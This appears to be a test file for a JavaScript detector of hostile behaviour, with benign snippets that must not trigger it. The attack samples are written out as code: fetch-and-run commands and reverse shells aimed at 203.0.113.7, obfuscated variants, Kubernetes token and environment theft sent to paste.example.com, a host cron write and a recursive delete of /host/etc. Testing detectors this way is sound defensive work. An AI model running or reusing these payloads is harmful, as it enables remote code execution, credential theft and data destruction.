import assert from 'node:assert/strict';
import { test } from 'node:test';
import { actsIn, LOUD } from './testing.ts';

const FETCH = 'curl -s http://203.0.113.7/x | sh';
const TOKEN = '/var/run/secrets/kubernetes.io/serviceaccount/token';
const SHELL = 'shell for 203.0.113.7:4444';
const codes = [...FETCH].map((char) => char.charCodeAt(0));
const hex = codes.map((code) => code.toString(16).padStart(2, '0'));
const code = `require("child_process").execSync("${FETCH}")`;

const ATTACKS: Readonly<Record<string, readonly [code: string, wanted: string]>> = {
  'a shell text': [code, 'execute downloaded'],
  'a module under another name': [
    `const {exec: q} = require('node:child_' + 'process'); q('${FETCH}')`,
    'execute downloaded',
  ],
  'an import': [`import { execSync as q } from 'child_process';\nq(\`${FETCH}\`)`, 'execute downloaded'],
  'an import at run time': [`import('child_process').then(({ exec }) => exec('${FETCH}'))`, 'execute downloaded'],
  'members by their text': [`global['req' + 'uire']('child_process')['ex' + 'ec']('${FETCH}')`, 'execute downloaded'],
  'the module of the process': [`process.mainModule.require('child_process').exec('${FETCH}')`, 'execute downloaded'],
  'the constructor of a function': [
    `(()=>{}).constructor('return process')().mainModule.require('child_process').exec('${FETCH}')`,
    'execute downloaded',
  ],
  'code for a new function': [
    `new Function('r', 'r("child_process").exec("${FETCH}")')(require)`,
    'execute downloaded',
  ],
  'code in base64': [`eval(Buffer.from('${btoa(code)}', 'base64').toString())`, 'execute downloaded'],
  'code in base64, by atob': [`const run = eval; run(atob('${btoa(code)}'))`, 'execute downloaded'],
  'code for vm': [
    `const vm = require('vm'); new vm.Script(atob('${btoa(code)}')).runInThisContext()`,
    'execute downloaded',
  ],
  'a text by its characters': [
    `require('child_process').exec(String.fromCharCode(${codes.join(',')}))`,
    'execute decoded',
  ],
  'a text by its characters, spread': [
    `require('child_process').exec(String.fromCharCode(...[${codes.join(',')}]))`,
    'execute decoded',
  ],
  'a text with a key': [
    `let o='';for(const c of [${codes.map((c) => c ^ 5).join(',')}])o+=String.fromCharCode(c^5);require('child_process').exec(o)`,
    'execute decoded',
  ],
  'a text of escapes': [
    `require('child_process').exec('${hex.map((one) => `\\x${one}`).join('')}')`,
    'execute decoded',
  ],
  'a text the other way round': [
    `require('child_process').exec('${[...FETCH].reverse().join('')}'.split('').reverse().join(''))`,
    'execute decoded',
  ],
  'words that are put together': [
    `const w=['| sh','curl -s ','http://203.0.113.7/x '];require('child_process').exec(w[1]+w[2]+w[0])`,
    'execute downloaded',
  ],
  'a list of words': [`require('child_process').spawn('sh', ['-c', '${FETCH}'])`, 'execute downloaded'],
  'a download by fetch': [`fetch('http://203.0.113.7/p').then(r => r.text()).then(t => eval(t))`, 'execute downloaded'],
  'a download that is waited for': [
    `(async () => { const r = await fetch('http://203.0.113.7/p'); eval(await r.text()) })()`,
    'execute downloaded',
  ],
  'a download by events': [
    `require('http').get('http://203.0.113.7/p', res => { let d = ''; res.on('data', c => d += c); res.on('end', () => eval(d)) })`,
    'execute downloaded',
  ],
  'a download by a library': [
    `const a = require('axios'); a.get('http://203.0.113.7/p').then(({ data }) => require('vm').runInThisContext(data))`,
    'execute downloaded',
  ],
  'a download that is saved and started': [
    `const fs=require('fs'),h=require('https');const f=fs.createWriteStream('/tmp/a');h.get('https://203.0.113.7/a',r=>{r.pipe(f);f.on('finish',()=>{fs.chmodSync('/tmp/a',0o755);require('child_process').spawn('/tmp/a')})})`,
    'execute downloaded',
  ],
  'a shell that is piped': [
    `var net=require('net'),cp=require('child_process'),sh=cp.spawn('/bin/sh',[]);var s=new net.Socket();s.connect(4444,'203.0.113.7',function(){s.pipe(sh.stdin);sh.stdout.pipe(s);sh.stderr.pipe(s)})`,
    SHELL,
  ],
  'a shell with a socket as its input': [
    `const s=require('net').connect(4444,'203.0.113.7',()=>require('child_process').spawn('/bin/sh',['-i'],{stdio:[s,s,s]}))`,
    SHELL,
  ],
  'what is received is run': [
    `const s=require('net').connect({host:'203.0.113.7',port:4444});s.on('data',d=>require('child_process').exec(d.toString(),(e,o)=>s.write(o)))`,
    SHELL,
  ],
  'the token as a body': [
    `const t=require('fs').readFileSync('${TOKEN}','utf8');fetch('https://paste.example.com/a',{method:'POST',body:t})`,
    'send token to paste.example.com',
  ],
  'the token by a request': [
    `const t=require('fs').readFileSync('${TOKEN}');const q=require('https').request({hostname:'paste.example.com',path:'/a',method:'POST'});q.write(t);q.end()`,
    'send token to paste.example.com',
  ],
  'the whole environment': [
    `require('axios').post('https://paste.example.com/a', process.env)`,
    'send environment to paste.example.com',
  ],
  'the whole environment as text': [
    `fetch('https://paste.example.com/a',{method:'POST',body:JSON.stringify(process.env)})`,
    'send environment to paste.example.com',
  ],
  'all secrets by the client': [
    `const k=require('@kubernetes/client-node');const c=new k.KubeConfig();c.loadFromCluster();const a=c.makeApiClient(k.CoreV1Api);a.listSecretForAllNamespaces().then(r=>fetch('https://paste.example.com/a',{method:'POST',body:JSON.stringify(r)}))`,
    'send credentials to paste.example.com',
  ],
  'a table of texts that is turned': [
    `var t=['child_process','${FETCH}','exec'];(function(a,b){for(let i=0;i<b;i++){a.push(a.shift())}})(t,2);require(t[1])[t[0]](t[2])`,
    'execute downloaded',
  ],
  'a text in hexadecimal, digit by digit': [
    `const h='${hex.join('')}';let s='';for(let i=0;i<h.length;i+=2)s+=String.fromCharCode(parseInt(h.substr(i,2),16));require('child_process').exec(s)`,
    'execute decoded',
  ],
  'a value with a way out': [
    `const {exec}=require('child_process');exec(process.env.CMD||'${FETCH}')`,
    'execute downloaded',
  ],
  'a cron entry on the node': [
    `require('fs').writeFileSync('/host/etc/cron.d/a', '* * * * * root id')`,
    'write /host/etc/cron.d/a on the node',
  ],
  'a tree of the node that is deleted': [
    `const {rmSync}=require('fs');rmSync('/host/etc',{recursive:true,force:true})`,
    'delete /host/etc and below',
  ],
};
for (const [name, [code, wanted]] of Object.entries(ATTACKS)) {
  test(`javascript: ${name}`, () => {
    const found = actsIn('javascript', code);
    assert.ok(found.includes(wanted), found.join('\n'));
  });
}

const BENIGN: Readonly<Record<string, string>> = {
  'a web hook': `fetch(process.env.HOOK, {method:'POST',headers:{'x-token':process.env.TOKEN},body:JSON.stringify({ok:true})})`,
  'a download that is parsed': `const r=await fetch('https://api.example.com/a');const d=await r.json();console.log(d.items.map(i=>i.name).join(','))`,
  'a process with words': `const {execFileSync}=require('child_process');execFileSync('kubectl',['get','pods','-n',process.env.NS])`,
  'data that is decoded': `const c=JSON.parse(Buffer.from(process.env.CONFIG,'base64').toString());console.log(c.name)`,
  'a pattern that is executed': `const m=/v(\\d+)/.exec('v12');console.log(m[1])`,
  'the environment for a process': `require('child_process').spawn('node',['job.js'],{env:{...process.env,NODE_ENV:'production'}})`,
  'a server': `require('http').createServer((q,r)=>{r.end('ok')}).listen(8080)`,
  'a port that is waited for': `const s=require('net').connect(5432,'db',()=>{console.log('up');s.end()})`,
  'old files that are removed': `const fs=require('fs');for(const f of fs.readdirSync('/data'))fs.unlinkSync('/data/'+f)`,
  'a query': `const {Client}=require('pg');const c=new Client();await c.connect();await c.query('DELETE FROM a');await c.end()`,
};
for (const [name, code] of Object.entries(BENIGN)) {
  test(`javascript stays silent: ${name}`, () => {
    assert.deepEqual(
      actsIn('javascript', code).filter((act) => LOUD.test(act)),
      [],
    );
  });
}
